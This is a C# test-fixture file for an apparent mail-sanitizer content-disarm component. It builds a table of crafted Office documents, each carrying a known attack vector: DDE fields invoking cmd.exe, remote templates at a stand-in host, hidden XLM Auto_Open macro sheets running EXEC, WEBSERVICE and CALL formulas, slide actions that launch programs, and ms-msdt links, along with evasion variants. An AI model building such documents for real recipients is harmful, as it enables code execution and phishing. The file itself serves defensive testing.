using System.Text;
using MailSanitizer.Content.Disarming;
using MailSanitizer.Content.Disarming.Ooxml;

namespace MailSanitizer.Content.Tests.Disarming.Ooxml;

/// <summary>One item of the table: the document, what shows that it is in there (for a look that does not know the disarmer), and what must be found.</summary>
/// <param name="Name">What the item is.</param>
/// <param name="Sample">The document.</param>
/// <param name="Marks">Text that is in the members before and not after.</param>
/// <param name="Kind">The finding.</param>
/// <param name="Stays">Text that is in the members before and after.</param>
public sealed record OoxmlAttack(string Name, DisarmSample Sample, string[] Marks, FindingKind Kind, string[] Stays)
{
    public override string ToString() => Name;
}

public static class OoxmlAttacks
{
    private const string W = Packages.W, R = Packages.R, S = Packages.S;
    private const string Ms = "http://schemas.microsoft.com/office/2006/relationships";
    private const string Strict = "http://purl.oclc.org/ooxml/officeDocument/relationships";
    private static readonly byte[] Junk = [1, 2, 3, 4, .. "ATTACK-BYTES"u8];

    public static IReadOnlyList<OoxmlAttack> All { get; } = [.. Make()];

    private static string Field(params string[] codes) =>
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + string.Concat(codes.Select(code => $"<w:r><w:instrText xml:space=\"preserve\">{code}</w:instrText></w:r>"))
        + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>Seen result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";

    private static IEnumerable<OoxmlAttack> Make() => [.. WordAttacks(), .. SheetAttacks(), .. SlideAttacks(), .. DrawingAttacks(), .. PackageAttacks()];

    private static IEnumerable<OoxmlAttack> WordAttacks()
    {
        yield return new("VBA project, data and signature",
            Packages.Docx(main: "application/vnd.ms-word.document.macroEnabled.main+xml")
                .Relate("word/document.xml", "rId7", Ms + "/vbaProject", "vbaProject.bin").Part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", Junk)
                .Relate("word/vbaProject.bin", "rId1", Ms + "/wordVbaData", "vbaData.xml").Part("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml", "<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"/>").As("a.docm"),
            ["vbaProject", "ATTACK-BYTES", "vbaSuppData", "macroEnabled"], OfficeFindings.VbaProject, ["Kept text"]);
        yield return new("DDEAUTO split over runs", Packages.Docx(Field(" D", "DEA", "UTO c:\\\\windows\\\\system32\\\\cmd.exe ")).As("dde.docx"), ["cmd.exe"], OfficeFindings.Dde, ["Seen result"]);
        yield return new("DDE in a simple field", Packages.Docx("<w:p><w:fldSimple w:instr=\"DDE cmd x\"><w:r><w:t>Seen result</w:t></w:r></w:fldSimple></w:p>").As("dde2.docx"), ["DDE cmd"], OfficeFindings.Dde, ["Seen result"]);
        foreach (string type in (string[])["INCLUDETEXT", "INCLUDEPICTURE", "IMPORT", "LINK", "MACROBUTTON", "DATABASE", "RD"])
            yield return new("field " + type, Packages.Docx(Field($" {type.ToLowerInvariant()} \"\\\\\\\\host\\\\attack\" ")).As("field.docx"), ["\\\\attack"], OfficeFindings.ActiveField, ["Seen result"]);
        yield return new("nested field that makes the type",
            Packages.Docx("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + Field(" QUOTE 68 68 69 ")[5..^6] + "<w:r><w:instrText> attack.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>Outer</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>").As("nested.docx"),
            ["attack.exe", "QUOTE"], OfficeFindings.ActiveField, ["Outer"]);
        yield return new("DDE in the result of another field", Packages.Docx("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> IF 1 = 1 </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>" + Field(" DDE attack.exe ")[5..^6] + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>").As("inresult.docx"), ["attack.exe"], OfficeFindings.Dde, ["Seen result", "IF 1"]);
        yield return new("hyperlink field to a file", Packages.Docx(Field(" HYPERLINK \"file:///c:/attack.exe\" ")).As("hf.docx"), ["attack.exe"], OfficeFindings.UnsafeHyperlink, ["Seen result"]);
        yield return new("hyperlink relationship to a share", Packages.Docx("<w:p><w:hyperlink r:id=\"rId9\"><w:r><w:t>Seen link</w:t></w:r></w:hyperlink></w:p>").Relate("word/document.xml", "rId9", R + "/hyperlink", "\\\\\\\\attack\\\\share", true).As("h.docx"), ["attack", "rId9"], OfficeFindings.UnsafeHyperlink, ["Seen link"]);
        yield return new("remote template", Packages.Docx(settings: "<w:attachedTemplate r:id=\"rId1\"/>").Relate("word/settings.xml", "rId1", R + "/attachedTemplate", "https://attack.example/t.dotm", true).As("t.docx"), ["attack.example", "attachedTemplate"], OfficeFindings.RemoteTemplate, ["Kept text"]);
        yield return new("remote template, mode in lower case, type strict and escaped", Packages.Docx(settings: "<w:attachedTemplate r:id=\"rId1\"/>").Relation("word/settings.xml", $"<Relationship Id=\"rId1\" Type=\"{Strict}/attached%54emplate\" Target=\"https://attack.example/t.dotm\" TargetMode=\"external\"/>").As("t2.docx"), ["attack.example"], OfficeFindings.RemoteTemplate, ["Kept text"]);
        yield return new("remote template without a mode", Packages.Docx(settings: "<w:attachedTemplate r:id=\"rId1\"/>").Relate("word/settings.xml", "rId1", R + "/attachedTemplate", "https://attack.example/t.dotm").As("t3.docx"), ["attack.example"], OfficeFindings.RemoteTemplate, ["Kept text"]);
        yield return new("altChunk", Packages.Docx("<w:altChunk r:id=\"rId9\"/>").Relate("word/document.xml", "rId9", R + "/aFChunk", "chunk.html").Part("word/chunk.html", "text/html", "<html>ATTACK</html>").As("alt.docx"), ["altChunk", "ATTACK"], OoxmlFindings.AltChunk, ["Kept text"]);
        yield return new("OLE object with its picture",
            Packages.Docx("<w:p><w:r><w:object><v:shape id=\"s1\"><v:imagedata r:id=\"rId8\"/></v:shape><o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"s1\" DrawAspect=\"Icon\" ObjectID=\"_1\" r:id=\"rId9\"/></w:object></w:r></w:p>")
                .Relate("word/document.xml", "rId8", R + "/image", "media/p.png").Part("word/media/p.png", null, Packages.Png)
                .Relate("word/document.xml", "rId9", R + "/oleObject", "embeddings/o.bin").Part("word/embeddings/o.bin", "application/vnd.openxmlformats-officedocument.oleObject", Junk).As("ole.docx"),
            ["OLEObject", "ATTACK-BYTES"], OfficeFindings.OleObject, ["v:imagedata", "media/p.png"]);
        yield return new("linked OLE object", Packages.Docx("<w:p><w:r><w:object><v:shape id=\"s1\"/><o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" r:id=\"rId9\" UpdateMode=\"Always\"/></w:object></w:r></w:p>").Relate("word/document.xml", "rId9", R + "/oleObject", "https://attack.example/x.html!", true).As("olelink.docx"), ["attack.example", "OLEObject"], OfficeFindings.LinkedObject, ["v:shape"]);
        yield return new("ActiveX", Packages.Docx("<w:p><w:r><w:object><v:shape id=\"s1\"/><w:control r:id=\"rId9\" w:name=\"C\" w:shapeid=\"s1\"/></w:object></w:r></w:p>").Relate("word/document.xml", "rId9", R + "/control", "activeX/activeX1.xml")
            .Part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>").Relate("word/activeX/activeX1.xml", "rId1", Ms + "/activeXControlBinary", "activeX1.bin").Part("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX", Junk).As("ax.docx"),
            ["ax:ocx", "ATTACK-BYTES", "w:control"], OfficeFindings.ActiveX, ["v:shape"]);
        yield return new("remote image", Packages.Docx("<w:p><w:r><w:pict><v:shape><v:imagedata r:id=\"rId9\"/></v:shape></w:pict></w:r></w:p>").Relate("word/document.xml", "rId9", R + "/image", "http://attack.example/a.png", true).As("img.docx"), ["attack.example", "rId9"], OfficeFindings.ExternalLink, ["v:imagedata"]);
        yield return new("sub document", Packages.Docx("<w:subDoc r:id=\"rId9\"/>").Relate("word/document.xml", "rId9", R + "/subDocument", "file:///attack.docx", true).As("sub.docx"), ["attack.docx", "subDoc"], OfficeFindings.ExternalLink, ["Kept text"]);
        yield return new("frame", Packages.Docx().Relate("word/settings.xml", "rId1", R + "/frame", "http://attack.example/f.htm", true).As("frame.docx"), ["attack.example"], OfficeFindings.ExternalLink, ["Kept text"]);
        yield return new("mail merge", Packages.Docx(settings: "<w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/><w:dataType w:val=\"native\"/><w:query w:val=\"SELECT attack\"/><w:dataSource r:id=\"rId1\"/></w:mailMerge>").Relate("word/settings.xml", "rId1", R + "/mailMergeSource", "file:///attack.mdb", true).As("mm.docx"), ["attack.mdb", "mailMerge>"], OfficeFindings.DataConnection, ["w:zoom"]);
        yield return new("save through XSLT", Packages.Docx(settings: "<w:saveThroughXslt r:id=\"rId1\"/>").Relate("word/settings.xml", "rId1", R + "/transform", "http://attack.example/x.xsl", true).As("xslt.docx"), ["attack.example", "saveThroughXslt"], OoxmlFindings.XsltSave, ["w:zoom"]);
        yield return new("VML href", Packages.Docx("<w:p><w:r><w:pict><v:shape href=\"file://attack/x\" id=\"s\"/></w:pict></w:r></w:p>").As("vml.docx"), ["attack/x"], OfficeFindings.UnsafeHyperlink, ["id=\"s\""]);
        yield return new("VML source", Packages.Docx("<w:p><w:r><w:pict><v:shape><v:imagedata src=\"http://attack.example/x.png\"/></v:shape></w:pict></w:r></w:p>").As("vml2.docx"), ["attack.example"], OfficeFindings.ExternalLink, ["v:imagedata"]);
        yield return new("web video", Packages.Docx("<w:p><w:r><wp15:webVideoPr xmlns:wp15=\"http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing\" embeddedHtml=\"&lt;script&gt;attack\" h=\"1\" w=\"1\"/></w:r></w:p>").As("video.docx"), ["attack"], OoxmlFindings.WebVideo, ["Kept text"]);
        yield return new("both branches of alternate content", Packages.Docx("<w:p><mc:AlternateContent><mc:Choice Requires=\"wps\"><w:r><w:t>One</w:t></w:r></mc:Choice><mc:Fallback>" + Field(" DDEAUTO attack.exe ")[5..^6] + "</mc:Fallback></mc:AlternateContent></w:p>").As("mc.docx"), ["attack.exe"], OfficeFindings.Dde, ["One", "Seen result"]);
        yield return new("key assignments", Packages.Docx().Relate("word/document.xml", "rId9", Ms + "/keyMapCustomizations", "customizations.xml").Part("word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml", "<wne:tcg xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\" wne:x=\"ATTACK\"/>").As("keys.docx"), ["ATTACK"], OfficeFindings.CustomUi, ["Kept text"]);
        yield return new("macro of a form field", Packages.Docx("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"><w:ffData><w:name w:val=\"n\"/><w:entryMacro w:val=\"attack\"/></w:ffData></w:fldChar></w:r><w:r><w:instrText> FORMTEXT </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>").As("form.docx"), ["attack"], OoxmlFindings.MacroCall, ["FORMTEXT"]);
        yield return new("field in UTF-16", Utf16(), ["DDEAUTO"], OfficeFindings.Dde, ["Seen result"]);
        yield return new("strict field", new("strict.docx", Replace(Packages.Docx(Field(" DDEAUTO attack.exe ")).Bytes(), W, "http://purl.oclc.org/ooxml/wordprocessingml/main")), ["attack.exe"], OfficeFindings.Dde, ["Seen result"]);
        yield return new("EPS image", Packages.Docx("<w:p><w:r><w:pict><v:shape><v:imagedata r:id=\"rId9\"/></v:shape></w:pict></w:r></w:p>").Relate("word/document.xml", "rId9", R + "/image", "media/a.eps").Part("word/media/a.eps", "image/x-eps", "%!PS-ATTACK"u8.ToArray()).As("eps.docx"), ["PS-ATTACK", "rId9"], OoxmlFindings.EpsImage, ["v:imagedata"]);
        yield return new("font", Packages.Docx().Relate("word/document.xml", "rId9", R + "/font", "fonts/f.odttf").Part("word/fonts/f.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", Junk).As("font.docx"), ["ATTACK-BYTES"], OoxmlFindings.EmbeddedFont, ["Kept text"]);
    }

    private static DisarmSample Utf16()
    {
        Packages made = Packages.Docx();
        string xml = $"<?xml version=\"1.0\" encoding=\"UTF-16\"?><w:document xmlns:w=\"{W}\"><w:body>{Field(" DDEAUTO attack.exe ")}<w:sectPr/></w:body></w:document>";
        return made.Part("word/document.xml", null, [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(xml)]).As("utf16.docx");
    }

    private static byte[] Replace(byte[] package, string from, string to)
    {
        Packages made = new();
        using System.IO.Compression.ZipArchive archive = new(new MemoryStream(package));
        using MemoryStream result = new();
        using (System.IO.Compression.ZipArchive target = new(result, System.IO.Compression.ZipArchiveMode.Create, true))
        {
            foreach (System.IO.Compression.ZipArchiveEntry entry in archive.Entries)
            {
                using StreamReader reader = new(entry.Open());
                using StreamWriter writer = new(target.CreateEntry(entry.FullName).Open());
                writer.Write(reader.ReadToEnd().Replace(from, to, StringComparison.Ordinal));
            }
        }

        return result.ToArray();
    }

    private static Packages External(string link, string target) =>
        Packages.Xlsx("<c r=\"A1\"><f>[1]!x</f><v>7</v></c><c r=\"B1\"><f>SUM(C1)</f><v>8</v></c>", after: "<externalReferences><externalReference r:id=\"rId5\"/></externalReferences><calcPr calcId=\"1\"/>")
            .Relate("xl/workbook.xml", "rId5", R + "/externalLink", "externalLinks/externalLink1.xml")
            .Part("xl/externalLinks/externalLink1.xml", Packages.Sheet + "externalLink+xml", $"<externalLink xmlns=\"{S}\" xmlns:r=\"{R}\">{link}</externalLink>")
            .Relate("xl/externalLinks/externalLink1.xml", "rId1", R + "/externalLinkPath", target, true)
            .Relate("xl/workbook.xml", "rId6", R + "/calcChain", "calcChain.xml").Part("xl/calcChain.xml", Packages.Sheet + "calcChain+xml", $"<calcChain xmlns=\"{S}\"><c r=\"A1\" i=\"1\"/></calcChain>");

    private static Packages MacroSheet(string state, string type = "application/vnd.ms-excel.macrosheet+xml") =>
        Packages.Xlsx(sheets: $"<sheet name=\"M\" sheetId=\"2\" state=\"{state}\" r:id=\"rId2\"/>", after: "<definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">M!$A$1</definedName><definedName name=\"Kept\">One!$A$1</definedName></definedNames>", main: "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
            .Relate("xl/workbook.xml", "rId2", Ms + "/xlMacrosheet", "macrosheets/sheet1.xml")
            .Part("xl/macrosheets/sheet1.xml", type, $"<xm:macrosheet xmlns=\"{S}\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"attack.exe\")</f></c></row></sheetData></xm:macrosheet>");

    private static IEnumerable<OoxmlAttack> SheetAttacks()
    {
        yield return new("DDE link", External("<ddeLink ddeService=\"cmd\" ddeTopic=\"/c attack.exe\"/>", "x").As("dde.xlsx"), ["attack.exe", "externalReference", "[1]!x", "calcChain"], OfficeFindings.Dde, ["<v>7</v>", "SUM(C1)"]);
        yield return new("other workbook", External("<externalBook r:id=\"rId1\"/>", "file:///attack.xlsx").As("ext.xlsx"), ["attack.xlsx", "externalReference", "[1]!x"], OfficeFindings.ExternalLink, ["<v>7</v>", "SUM(C1)"]);
        yield return new("OLE link", External("<oleLink r:id=\"rId1\" progId=\"x\"/>", "file:///attack.doc").As("olelink.xlsx"), ["attack.doc", "oleLink"], OfficeFindings.LinkedObject, ["<v>7</v>"]);
        yield return new("DDE in a formula", Packages.Xlsx("<c r=\"A1\"><f>cmd|'/c attack.exe'!A0</f><v>7</v></c>").As("ddef.xlsx"), ["attack.exe"], OfficeFindings.Dde, ["<v>7</v>"]);
        foreach (string call in (string[])["WEBSERVICE(&quot;http://attack.example&quot;)", "_xlfn.WEBSERVICE(&quot;http://attack.example&quot;)", "_xlfn.IMAGE(&quot;http://attack.example&quot;)", "RTD(&quot;attack.example&quot;,,1)", "CALL(&quot;attack.example&quot;,&quot;x&quot;)", "REGISTER(&quot;attack.example&quot;)", "REGISTER.ID(&quot;attack.example&quot;)", "1+ sum(webservice (&quot;attack.example&quot;))", "_xll.Do(&quot;attack.example&quot;)"])
            yield return new("function " + call.Replace("&quot;", "\"", StringComparison.Ordinal), Packages.Xlsx($"<c r=\"A1\"><f>{call}</f><v>7</v></c>").As("f.xlsx"), ["attack.example"], OfficeFindings.ActiveFunction, ["<v>7</v>"]);
        yield return new("hyperlink formula to a file", Packages.Xlsx("<c r=\"A1\" t=\"str\"><f>HYPERLINK(&quot;file://attack&quot;,&quot;x&quot;)</f><v>Seen</v></c>").As("hl.xlsx"), ["file://attack"], OfficeFindings.UnsafeHyperlink, ["Seen"]);
        yield return new("shared formula", Packages.Xlsx("<c r=\"A1\"><f t=\"shared\" ref=\"A1:B1\" si=\"4\">WEBSERVICE(C1)</f><v>7</v></c><c r=\"B1\"><f t=\"shared\" si=\"4\"/><v>8</v></c>").As("shared.xlsx"), ["WEBSERVICE", "si=\"4\""], OfficeFindings.ActiveFunction, ["<v>7</v>", "<v>8</v>"]);
        foreach (string state in (string[])["visible", "hidden", "veryHidden"])
            yield return new("XLM sheet " + state, MacroSheet(state).As("xlm.xlsm"), ["attack.exe", "Auto_Open", "macroEnabled"], OfficeFindings.XlmMacro, ["Kept", "One!$A$1"]);
        yield return new("XLM sheet under a worksheet's type", MacroSheet("hidden", Packages.Sheet + "worksheet+xml").As("xlm2.xlsm"), ["attack.exe", "Auto_Open"], OfficeFindings.XlmMacro, ["One!$A$1"]);
        yield return new("name that is a macro", Packages.Xlsx(after: "<definedNames><definedName name=\"x\">EXEC(\"attack.exe\")</definedName></definedNames>").As("name.xlsx"), ["attack.exe"], OfficeFindings.XlmMacro, ["<v>1</v>"]);
        yield return new("connections and query table",
            Packages.Xlsx().Relate("xl/workbook.xml", "rId5", R + "/connections", "connections.xml").Part("xl/connections.xml", Packages.Sheet + "connections+xml", $"<connections xmlns=\"{S}\"><connection id=\"1\" connection=\"DSN=attack\"/></connections>")
                .Relate("xl/worksheets/sheet1.xml", "rId1", R + "/queryTable", "../queryTables/q.xml").Part("xl/queryTables/q.xml", Packages.Sheet + "queryTable+xml", $"<queryTable xmlns=\"{S}\" name=\"ATTACK\" connectionId=\"1\"/>").As("conn.xlsx"),
            ["DSN=attack", "ATTACK"], OfficeFindings.DataConnection, ["<v>1</v>"]);
        yield return new("Power Query", Packages.Xlsx().Relate("", "rId5", R + "/customXml", "customXml/item1.xml").Part("customXml/item1.xml", null, "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">ATTACK</DataMashup>").As("pq.xlsx"), ["ATTACK"], OfficeFindings.DataConnection, ["<v>1</v>"]);
        yield return new("hyperlink of a cell", Packages.Xlsx(tail: "<hyperlinks><hyperlink ref=\"A1\" r:id=\"rId1\"/></hyperlinks>").Relate("xl/worksheets/sheet1.xml", "rId1", R + "/hyperlink", "ms-msdt:/id attack", true).As("cell.xlsx"), ["ms-msdt", "hyperlinks"], OfficeFindings.UnsafeHyperlink, ["<v>1</v>"]);
        yield return new("hyperlink base", Packages.Xlsx().Relate("", "rId2", R + "/extended-properties", "docProps/app.xml").Part("docProps/app.xml", "application/vnd.openxmlformats-officedocument.extended-properties+xml", "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\"><Application>Kept</Application><HyperlinkBase>\\\\attack\\x</HyperlinkBase></Properties>").As("base.xlsx"), ["attack"], OoxmlFindings.HyperlinkBase, ["Kept"]);
        yield return new("embedded document with a macro, in place",
            Packages.Xlsx(tail: "<oleObjects><oleObject progId=\"Word.Document.12\" shapeId=\"1\" r:id=\"rId1\"/></oleObjects>").Relate("xl/worksheets/sheet1.xml", "rId1", R + "/package", "../embeddings/d.docx")
                .Part("xl/embeddings/d.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", Packages.Docx(Field(" DDEAUTO x ")).Bytes()).As("emb.xlsx"),
            [], OfficeFindings.Dde, ["xl/embeddings/d.docx", "oleObject"]);
    }

    private static IEnumerable<OoxmlAttack> SlideAttacks()
    {
        const string Shape = "<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"n\">{0}</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>";
        yield return new("slide action that runs a program", Packages.Pptx(Shape.Replace("{0}", "<a:hlinkClick r:id=\"rId1\" action=\"ppaction://program\"/>", StringComparison.Ordinal)).Relate("ppt/slides/slide1.xml", "rId1", R + "/hyperlink", "file:///attack.exe", true).As("run.pptx"), ["attack.exe", "ppaction"], OfficeFindings.SlideAction, ["name=\"n\""]);
        yield return new("slide action that runs a macro", Packages.Pptx(Shape.Replace("{0}", "<a:hlinkHover r:id=\"\" action=\"ppaction://macro?name=attack\"/>", StringComparison.Ordinal)).As("macro.pptx"), ["name=attack"], OfficeFindings.SlideAction, ["name=\"n\""]);
        yield return new("animation that opens an object", Packages.Pptx(tail: "<p:timing><p:tnLst><p:par><p:cTn id=\"1\"><p:childTnLst><p:cmd type=\"verb\" cmd=\"0\"/></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>").As("verb.pptx"), ["type=\"verb\""], OfficeFindings.SlideAction, ["p:cmd"]);
        yield return new("linked media", Packages.Pptx("<p:pic><p:nvPicPr><p:cNvPr id=\"2\" name=\"n\"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link=\"rId1\"/></p:nvPr></p:nvPicPr><p:blipFill/><p:spPr/></p:pic>").Relate("ppt/slides/slide1.xml", "rId1", R + "/video", "file://attack/v.mp4", true).As("media.pptx"), ["attack", "videoFile"], OfficeFindings.LinkedMedia, ["p:pic>"]);
        yield return new("object of a slide, its picture stays",
            Packages.Pptx("<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id=\"2\" name=\"frame\"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm/><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/presentationml/2006/ole\"><mc:AlternateContent><mc:Choice Requires=\"v\" xmlns:v=\"urn:schemas-microsoft-com:vml\"><p:oleObj spid=\"_x\" r:id=\"rId9\" progId=\"Package\"><p:embed/></p:oleObj></mc:Choice><mc:Fallback><p:oleObj r:id=\"rId9\" progId=\"Package\"><p:embed/><p:pic><p:nvPicPr><p:cNvPr id=\"0\" name=\"Preview\"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:embed=\"rId8\"/></p:blipFill><p:spPr/></p:pic></p:oleObj></mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>")
                .Relate("ppt/slides/slide1.xml", "rId8", R + "/image", "../media/p.png").Part("ppt/media/p.png", null, Packages.Png)
                .Relate("ppt/slides/slide1.xml", "rId9", R + "/oleObject", "../embeddings/o.bin").Part("ppt/embeddings/o.bin", "application/vnd.openxmlformats-officedocument.oleObject", Junk).As("ole.pptx"),
            ["oleObj ", "graphicFrame", "ATTACK-BYTES", "AlternateContent>"], OfficeFindings.OleObject, ["Preview", "rId8", "media/p.png"]);
        yield return new("task pane", Packages.Pptx().Relate("", "rId5", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "ppt/webextensions/taskpanes.xml").Part("ppt/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", "<wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\" a=\"ATTACK\"/>").As("pane.pptx"), ["ATTACK"], OoxmlFindings.WebExtension, ["p:sldId"]);
        yield return new("VBA of a presentation", Packages.Pptx(main: "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml").Relate("ppt/presentation.xml", "rId7", Ms + "/vbaProject", "vbaProject.bin").Part("ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject", Junk).As("m.pptm"), ["ATTACK-BYTES", "macroEnabled"], OfficeFindings.VbaProject, ["p:sldId"]);
        yield return new("svg picture that is left out of the list", Packages.Pptx("<p:pic><p:nvPicPr><p:cNvPr id=\"2\" name=\"n\"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip><a:extLst><a:ext uri=\"{96DAC541-7B7A-43D3-8B79-37D633B846F1}\"><asvg:svgBlip xmlns:asvg=\"http://schemas.microsoft.com/office/drawing/2016/SVG/main\" r:link=\"rId1\"/></a:ext></a:extLst></a:blip></p:blipFill><p:spPr/></p:pic>").Relate("ppt/slides/slide1.xml", "rId1", R + "/image", "https://attack.example/x.svg", true).As("svg.pptx"), ["attack.example", "svgBlip"], OfficeFindings.ExternalLink, ["p:pic>"]);
    }

    private static IEnumerable<OoxmlAttack> DrawingAttacks()
    {
        foreach ((string name, string formula, string mark) in ((string, string, string)[])[("add-on", "RUNADDON(&quot;attack&quot;)", "RUNADDON"), ("macro", "GUARD(RunMacro(&quot;attack&quot;))", "RunMacro"), ("file", "OPENFILE(&quot;\\\\attack\\x.exe&quot;)", "OPENFILE"),
            ("module", "CALLTHIS(&quot;attack&quot;,)", "CALLTHIS"), ("text that becomes a formula", "SETF(GETREF(User.a),&quot;RUN&quot;&amp;&quot;ADDON(1)&quot;)", "ADDON"), ("hyperlink function", "HYPERLINK(&quot;file://attack/x&quot;)", "HYPERLINK")])
            yield return new("Visio cell that runs a " + name, Packages.Vsdx($"<Cell N='EventDblClick' V='0' F='{formula}'/>").As("cell.vsdx"), [mark], OoxmlFindings.MacroCall, ["EventDblClick", "THEMEVAL"]);
        yield return new("Visio hyperlink cell", Packages.Vsdx("<Section N='Hyperlink'><Row N='Row_1'><Cell N='Address' V='\\\\attack.example\\x.exe'/></Row></Section>").As("link.vsdx"), ["attack.example"], OfficeFindings.UnsafeHyperlink, ["Kept shape"]);
        yield return new("Visio hyperlink by a formula", Packages.Vsdx("<Section N='Hyperlink'><Row N='Row_1'><Cell N='Address' V='' F='&quot;file://&quot;&amp;Prop.attack'/></Row></Section>").As("link2.vsdx"), ["Prop.attack"], OfficeFindings.UnsafeHyperlink, ["Kept shape"]);
        yield return new("Visio event that starts an add-on", Packages.Vsdx(document: "<EventList><EventItem ID='0' Action='1' EventCode='2' Enabled='1' Target='attack' TargetArgs=''/></EventList>").As("event.vsdx"), ["EventItem"], OoxmlFindings.MacroCall, ["Kept shape"]);
        yield return new("Visio menus from a file", Packages.Vsdx(document: "<DocumentSettings><CustomMenusFile>\\\\attack\\m.vsu</CustomMenusFile></DocumentSettings>").As("menus.vsdx"), ["attack"], OfficeFindings.CustomUi, ["Kept shape"]);
        yield return new("Visio stencil that stands elsewhere", Packages.Vsdx(windows: "<Window ID='1' WindowType='Stencil' Document='\\\\attack\\s.vssx'/>").As("stencil.vsdx"), ["attack"], OfficeFindings.ExternalLink, ["Kept shape"]);
        yield return new("VBA of a drawing", Packages.Vsdx(main: "application/vnd.ms-visio.drawing.macroEnabled.main+xml").Relate("visio/document.xml", "rId7", Ms + "/vbaProject", "vbaProject.bin").Part("visio/vbaProject.bin", "application/vnd.ms-office.vbaProject", Junk).As("m.vsdm"), ["ATTACK-BYTES", "macroEnabled"], OfficeFindings.VbaProject, ["Kept shape"]);
    }

    private static IEnumerable<OoxmlAttack> PackageAttacks()
    {
        yield return new("part that nothing reaches", Packages.Docx().Part("word/orphan.bin", "application/vnd.openxmlformats-officedocument.oleObject", Junk).As("orphan.docx"), ["ATTACK-BYTES"], OoxmlFindings.UnreachablePart, ["Kept text"]);
        yield return new("unknown type", Packages.Docx().Relate("word/document.xml", "rId9", R + "/image", "x.dat").Part("word/x.dat", "application/x-attack", Junk).As("type.docx"), ["ATTACK-BYTES", "x-attack"], OoxmlFindings.UnknownPart, ["Kept text"]);
        yield return new("unknown relationship", Packages.Docx().Relate("word/document.xml", "rId9", "http://attack.example/rel", "x.xml").Part("word/x.xml", null, "<ATTACK/>").As("rel.docx"), ["attack.example", "<ATTACK"], OoxmlFindings.UnknownRelationship, ["Kept text"]);
        yield return new("target in other spelling", Packages.Docx().Relate("word/document.xml", "rId9", Ms + "/vbaProject", "..\\WORD\\./%76baProject.bin").Part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", Junk).As("spelling.docx"), ["ATTACK-BYTES"], OfficeFindings.VbaProject, ["Kept text"]);
        yield return new("absolute target, VBA type in other case under a picture's relationship", Packages.Docx().Relate("word/document.xml", "rId9", R + "/image", "/word/a.bin").Part("word/a.bin", "Application/VND.ms-office.VBAPROJECT; x=y", Junk).As("case.docx"), ["ATTACK-BYTES"], OfficeFindings.VbaProject, ["Kept text"]);
        yield return new("two content types", Packages.Docx().Relate("word/document.xml", "rId9", R + "/image", "a.png").Part("word/a.png", "image/png", Packages.Png).Raw("<Override PartName=\"/WORD/a.png\" ContentType=\"application/vnd.ms-office.vbaProject\"/>").As("two.docx"), ["vbaProject"], OoxmlFindings.ContentTypeConflict, ["Kept text"]);
        yield return new("ribbon", Packages.Docx().Relate("", "rId9", Ms + "/ui/extensibility", "customUI/customUI.xml").Part("customUI/customUI.xml", null, "<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\" onLoad=\"ATTACK\"/>").As("ui.docx"), ["ATTACK", "customUI"], OfficeFindings.CustomUi, ["Kept text"]);
    }
}
